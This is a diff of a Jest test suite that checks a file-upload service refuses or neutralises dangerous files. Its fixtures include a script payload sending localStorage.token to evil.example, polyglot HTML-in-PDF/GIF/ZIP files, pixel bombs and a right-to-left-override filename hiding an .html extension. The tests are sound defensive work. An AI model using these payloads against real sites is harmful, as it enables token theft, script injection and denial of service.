@@ -3,7 +3,7 @@ import { expect, test } from "@jest/globals";
 import { db } from "@/lib/server/db/client";
 import { type Person, signUp } from "../support/api/client";
 import { fetchFile, post, upload } from "../support/api/files";
-import { drawing, photo, withChunks, withSegments } from "../support/factories/images";
+import { drawing, photo, sayingSize, withChunks, withSegments } from "../support/factories/images";
 import { pdf } from "../support/factories/pdf";
 
 const script = "<script>fetch('https://evil.example/'+localStorage.token)</script>";
@@ -45,7 +45,7 @@ const active: Record<string, Buffer> = {
   "a page that calls itself a PDF": join("%PDF-", page),
   "a text with a page further down": join("Dear diary\n", page),
   "a text that is a script": join("alert(document.domain)"),
-  "a picture of a hundred million pixels": bomb(10_000),
+  "a picture of a million pixels in a thousand bytes": bomb(1_000),
 };
 const refused: Record<string, Buffer> = {
   "an SVG": Buffer.from(svg),
@@ -56,6 +56,8 @@ const refused: Record<string, Buffer> = {
   "an archive": join("PK\x03\x04\0\0", page),
   "a packed page": join(Buffer.from([0x1f, 0x8b, 8, 0]), deflateSync(page)),
   "a GIF that is a script": join("GIF89a/*\0", page),
+  "a PNG of a hundred million pixels in a thousand bytes": bomb(10_000),
+  "a JPEG of a hundred million pixels in a thousand bytes": sayingSize(photo, 10_000, 10_000),
   "a picture of more pixels": bomb(10_001),
   "a picture as large as its format allows": bomb(0x7fffffff),
   "a PNG without pixels": join(drawing.subarray(0, 33), page),
@@ -86,8 +88,8 @@ test.each(Object.entries(active))("%s is a download, or an image in which nothin
 });
 
 test("everything else is refused, under any name and any claimed type", async () => {
-  const ann = await signUp();
   for (const [kind, content] of Object.entries(refused)) {
+    const ann = await signUp();
     for (const name of ["x.png", "x.txt", "x.pdf", "x.svg", "x.png\u202etxt.html"]) {
       const form = new FormData();
       form.append("file", new Blob([new Uint8Array(content)], { type: "image/png" }), name);
